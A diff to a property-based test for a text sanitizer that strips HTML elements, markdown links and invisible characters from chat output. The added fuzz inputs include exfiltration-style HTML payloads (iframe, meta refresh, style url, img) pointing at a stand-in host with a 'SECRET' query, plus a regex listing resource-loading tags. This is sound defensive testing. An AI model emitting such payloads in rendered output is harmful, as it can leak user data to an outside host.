@@ -10,6 +10,9 @@ const invisible = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\p{Cf}\p{Cs}\u{e0100}
 // A link reference definition, anywhere: a model reflowing a passage could start a line with it.
 const referenceDefinition = /\[(?:\\.|[^\\[\]])+\]:[ \t]*\n?[ \t]*\S/;
 const hasLoneSurrogate = (text: string) => /\p{Cs}/u.test(text);
+// An element that can load something (or hide text) when a chat UI renders raw HTML.
+const loadingElement =
+  /<\/?(?:a|area|audio|base|embed|iframe|image|img|input|link|meta|object|picture|script|source|style|svg|track|use|video)\b/i;
 
 /** Markdown-ish soup: the pieces links, images and hidden text are made of, in any order. */
 const hostileText = fc
@@ -37,6 +40,28 @@ const hostileText = fc
         "<https://evil.example/a>",
         '<img src="https://evil.example/p.png" alt="x">',
         "<image src=x",
+        '<iframe src="https://evil.example/?q=SECRET">',
+        "<video poster=https://evil.example/p.png>",
+        '<a href="https://evil.example/?q=SECRET">',
+        "</a>",
+        '<svg><use href="https://evil.example/#x"/></svg>',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+        "<base href=https://evil.example/>",
+        '<x style="background:url(https://evil.example/p.png?q=SECRET)">',
+        '<source srcset="https://evil.example/p.png 2x">',
+        "<script>",
+        "</script>",
+        "<style>",
+        "<!--",
+        "-->",
+        "&lt;img src=x&gt;",
+        "&amp;lt;",
+        "&#91;",
+        "&#x5d;",
+        "&#40;",
+        "&#x200b;",
+        "List<String>",
+        "<T>",
         "\u0000",
         "\u001b[2J",
         "\u202e",
@@ -54,14 +79,16 @@ const hostileText = fc
   .map((parts) => parts.join(""));
 
 describe("sanitizeText (property)", () => {
-  it("leaves no control or invisible character, no `](`, no <img> and no reference definition", () => {
+  it("leaves no control or invisible character, no `](`, no element and no reference definition", () => {
     fc.assert(
       fc.property(hostileText, (text) => {
         const clean = sanitizeText(text);
         expect(clean).not.toMatch(invisible);
         expect(clean).not.toContain("](");
-        expect(clean).not.toMatch(/<im(?:g|age)\b/i);
+        expect(clean).not.toMatch(loadingElement);
         expect(clean).not.toMatch(referenceDefinition);
+        // An attribute with a value survives on no tag: `style` loads on any element.
+        expect(clean).not.toMatch(/<[A-Za-z][^<>]*=/);
       }),
       { numRuns: 2000 },
     );
